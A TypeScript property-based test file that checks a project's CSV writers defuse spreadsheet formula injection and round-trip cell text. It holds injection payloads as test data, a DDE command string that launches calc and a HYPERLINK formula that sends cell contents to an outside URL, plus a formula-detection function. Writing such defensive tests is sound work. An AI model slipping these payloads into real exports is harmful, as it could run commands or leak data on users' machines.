/** Tables: whatever texts hold, a reader gets them back, and a spreadsheet gets nothing to run. */
import { readdirSync, readFileSync } from 'node:fs';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCsv } from '../../../src/verbs/run/validate-output.ts';
import { readCsv } from '../../../src/learn/table/read-csv.ts';
import type { Extraction } from '../../../src/model/index.ts';
import { goldFiles } from '../../../src/labels/gold/files.ts';
import { cellText, csvOf } from '../../../src/write/table/csv.ts';
import { directoryToCsv, groupsToCsv, kindsToCsv, offersToCsv } from '../../../src/write/index.ts';

const text = fc.oneof(
  fc.string(),
  fc.string({ unit: 'binary' }),
  fc
    .tuple(
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', "'", "'='", "'-", '+4', '-€ '),
      fc.oneof(fc.string(), fc.constantFrom('1+1', 'SUM(A1:A9)', "cmd|' /C calc'!A0", '12,50', '41 22 918', '5 %')),
    )
    .map((parts) => parts.join('')),
);
const cellsOf = (csv: string): readonly string[] => readCsv(csv).flatMap(({ fields }) => fields);

/** What a spreadsheet would compute, told slowly: begins like a formula, and names or calls something. */
function isFormula(cell: string): boolean {
  if (!['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'].includes(cell[0] ?? '')) return false;
  if (cell[0] !== '+' && cell[0] !== '-') return true;
  if (/^.[\d.]+e[+-]?\d+$/i.test(cell)) return false;
  return (
    Array.from(cell.slice(1)).some((one) => /[^\d\s.,'’()/%-]/u.test(one) && !/\p{Sc}/u.test(one)) ||
    /[\t\r\n]/.test(cell)
  );
}

describe('A cell', () => {
  it('is never a formula', () => {
    fc.assert(
      fc.property(text, (one) => {
        expect(cellsOf(csvOf([['.', one]])).filter(isFormula)).toEqual([]);
      }),
      { numRuns: 1000 },
    );
  });

  it.each(['a;;=1', 'a\t\t=1'])('is whole for readers that find out what parts cells: %j', (one) =>
    expect(cellsOf(csvOf([['.', one]]))).toEqual(['.', one]),
  );

  it('can be read back as it was', () => {
    fc.assert(
      fc.property(fc.array(text, { minLength: 1 }), (row) => {
        expect(cellsOf(csvOf([['.', ...row]])).map(cellText)).toEqual(['.', ...row]);
      }),
      { numRuns: 1000 },
    );
  });

  it('that is a number stays one, whatever its sign', () => {
    fc.assert(
      fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (number) => {
        expect(cellsOf(csvOf([[number, number.toFixed(2)]])).map(Number)).toEqual([
          number === 0 ? 0 : number,
          Number(number.toFixed(2)),
        ]);
      }),
    );
  });

  it.each(['-12,50', '-1.234,56', '+5 %', '-3', '- 5,00 €', '+41 22 918 39 99', '+1 (555) 010-9999', '-', '—', 'a=b'])(
    'that is harmless stays as it is: %s',
    (one) => expect(cellsOf(csvOf([[one]]))).toEqual([one]),
  );

  it.each([
    '=1+1',
    '+SUM(A1)',
    '-2+A1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '＝1',
    "-1+cmd|'/C calc'!A0",
    '- a point of a list',
  ])('that may be a formula has an apostrophe before it: %j', (one) =>
    expect(cellsOf(csvOf([['.', one]]))).toEqual(['.', `'${one}`]),
  );
});

const evil = '=HYPERLINK("https://example.org/"&A1)';
const extraction = (type: string, value: unknown): Extraction => ({
  schema: 'fovea/extraction@1',
  source: { uri: evil, media: 'pdf', pages: [] },
  status: 'ok',
  groups: [
    {
      type,
      score: 1,
      page: 1,
      text: evil,
      value,
      children: ['title', 'description', 'price', evil].map((one) => ({ type: one, score: 1, page: 1, text: evil })),
    },
  ],
  notes: [],
});

describe('A table', () => {
  const node = { fields: { [evil]: evil, field: { deep: evil } } } as unknown as Parameters<typeof toCsv>[0][number];
  it.each([
    ['of offers', offersToCsv(extraction('offer', {}))],
    ['of directories', directoryToCsv(extraction('directory', { relations: [{ role: evil, path: [evil] }] }))],
    ['of kinds', kindsToCsv(extraction('text', evil))],
    ['of groups', groupsToCsv(extraction(evil, {}).groups)],
    ['of nodes', toCsv([node])],
  ])('%s has no formula in it, and ends its lines as all do', (_what, csv) => {
    expect(csv).toContain('HYPERLINK');
    expect(cellsOf(csv).filter(isFormula)).toEqual([]);
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('of pages that were labelled names documents so that they are found again', () => {
    const document = '=a, "b".pdf';
    const labels = { document, page: 1, tokens: [], blocks: [], regions: [] } as unknown as Parameters<
      typeof goldFiles
    >[1][number]['labels'];
    const files = goldFiles('directory', [{ labels, words: undefined as never }]);
    const pages = files.find(({ path }) => path === 'pages.csv')!;
    expect(readCsv('text' in pages ? pages.text : '').map(({ fields }) => fields.map(cellText))).toEqual([
      ['doc', 'page', 'label'],
      ['=a, "b"', '1', 'other'],
    ]);
  });

  it('is written in one place', () => {
    const src = new URL('../../../src/', import.meta.url).pathname;
    const own = readdirSync(src, { recursive: true, encoding: 'utf8' }).filter((path) =>
      /^(?!models).*\.ts$/.test(path),
    );
    const doubling = own.filter((path) => /replaceAll\('"', '""'\)/.test(readFileSync(`${src}${path}`, 'utf8')));
    expect(doubling).toEqual(['write/table/csv.ts']);
  });
});
